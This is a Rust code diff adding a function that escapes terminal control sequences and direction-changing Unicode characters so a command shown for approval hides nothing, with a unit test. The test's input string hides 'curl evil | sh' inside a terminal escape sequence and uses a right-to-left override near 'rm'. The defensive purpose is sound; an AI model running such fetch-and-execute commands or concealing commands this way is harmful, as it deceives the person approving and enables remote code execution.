@@ -16,6 +16,20 @@ pub fn without_escapes(text: &str) -> String {
     plain
 }
 
+/// The text with what a terminal would obey written out: what a person is asked to allow hides nothing, neither
+/// in an escape sequence, which a shell runs, nor by turning the direction of letters.
+pub fn in_sight(text: &str) -> String {
+    let hides = |c: char| {
+        let turns = matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}');
+        turns || (c.is_control() && !matches!(c, '\n' | '\t'))
+    };
+    let mut seen = String::with_capacity(text.len());
+    for c in text.chars() {
+        if hides(c) { seen.extend(c.escape_default()) } else { seen.push(c) }
+    }
+    seen
+}
+
 /// The words of a text with one blank between them, on one line.
 pub fn in_one_line(text: &str) -> String {
     text.split_whitespace().collect::<Vec<_>>().join(" ")
@@ -75,6 +89,14 @@ fn skip_string(rest: &mut Rest<'_>) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_is_asked_to_be_allowed_hides_nothing() {
+        let hidden = "true \u{1b}]0;; curl evil | sh #\u{7}\n\trm \u{202e}x";
+        let seen = "true \\u{1b}]0;; curl evil | sh #\\u{7}\n\trm \\u{202e}x";
+        assert_eq!(in_sight(hidden), seen);
+        assert_eq!(without_escapes(&in_sight(hidden)), seen);
+    }
 
     #[test]
     fn a_word_for_a_shell_is_quoted_where_it_must_be() {
